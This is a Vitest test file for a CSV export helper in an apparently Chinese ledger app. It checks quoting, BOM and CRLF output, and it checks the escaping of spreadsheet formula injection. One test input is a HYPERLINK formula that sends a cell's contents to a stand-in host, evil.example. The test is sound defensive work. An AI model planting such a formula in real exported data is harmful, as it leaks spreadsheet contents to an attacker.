import { describe, expect, it } from 'vitest';
import { csvCell, csvText, toCsv } from '../../../src/ledger/csv.ts';

describe('toCsv', () => {
  it('writes UTF-8 with a BOM, CRLF and every field quoted', () => {
    expect(
      toCsv([
        ['材料', '备注'],
        ['某局', '含"引号",和逗号\n换行'],
      ]),
    ).toBe('\uFEFF"材料","备注"\r\n"某局","含""引号"",和逗号\n换行"\r\n');
  });
});

describe('csvCell', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"点此")',
      `'=HYPERLINK("http://evil.example/?"&A1,"点此")`,
    ],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('keeps %j from starting a formula', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('leaves ordinary text alone, a formula sign inside it too', () => {
    for (const value of ['张三', '办公室', '2024-06-30', '1+1=2', '', '——']) {
      expect(csvCell(value)).toBe(value);
    }
  });

  it('is applied to every field of the file', () => {
    expect(toCsv([['责任领导'], ['=1+1']])).toBe('\uFEFF"责任领导"\r\n"\'=1+1"\r\n');
  });
});

describe('csvText', () => {
  it('writes a date as YYYY-MM-DD, a number as its digits and an empty cell as nothing', () => {
    expect(csvText(new Date('2024-06-30T00:00:00Z'))).toBe('2024-06-30');
    expect(csvText(12)).toBe('12');
    expect(csvText(undefined)).toBe('');
    expect(csvText('推进中')).toBe('推进中');
  });

  it('is how toCsv writes typed cells, blanks as empty fields', () => {
    expect(
      toCsv([
        ['完成时限', '逾期天数', '销号日期'],
        [new Date('2024-05-31T00:00:00Z'), 30, undefined],
      ]),
    ).toBe('\uFEFF"完成时限","逾期天数","销号日期"\r\n"2024-05-31","30",""\r\n');
  });
});
